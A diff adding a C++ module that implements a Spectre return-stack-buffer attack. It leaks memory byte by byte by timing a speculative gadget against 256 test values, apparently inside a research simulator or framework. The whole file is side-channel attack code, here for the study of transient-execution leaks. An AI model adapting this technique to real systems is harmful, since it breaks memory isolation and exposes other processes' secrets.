@@ -1,0 +1,38 @@
+#include "core/attacks/spectre_rsb.h"
+
+namespace whisper::core {
+
+TetSpectreRsb::TetSpectreRsb(os::Machine& m, Options opt)
+    : m_(m), opt_(opt), gadget_(make_rsb_gadget()) {}
+
+std::uint8_t TetSpectreRsb::leak_byte(std::uint64_t vaddr) {
+  analyzer_.reset();
+  const std::uint64_t start = m_.core().cycle();
+
+  std::array<std::uint64_t, isa::kNumRegs> regs{};
+  regs[static_cast<std::size_t>(isa::Reg::RDX)] = vaddr;
+
+  for (int batch = 0; batch < opt_.batches; ++batch) {
+    for (int tv = 0; tv <= 255; ++tv) {
+      regs[static_cast<std::size_t>(isa::Reg::RBX)] =
+          static_cast<std::uint64_t>(tv);
+      const std::uint64_t tote = run_tote(m_, gadget_, regs);
+      analyzer_.add(tv, tote);
+      ++stats_.probes;
+    }
+    analyzer_.end_batch();
+  }
+
+  stats_.cycles += m_.core().cycle() - start;
+  return static_cast<std::uint8_t>(analyzer_.decode());
+}
+
+std::vector<std::uint8_t> TetSpectreRsb::leak(std::uint64_t vaddr,
+                                              std::size_t len) {
+  std::vector<std::uint8_t> out;
+  out.reserve(len);
+  for (std::size_t i = 0; i < len; ++i) out.push_back(leak_byte(vaddr + i));
+  return out;
+}
+
+}  // namespace whisper::core
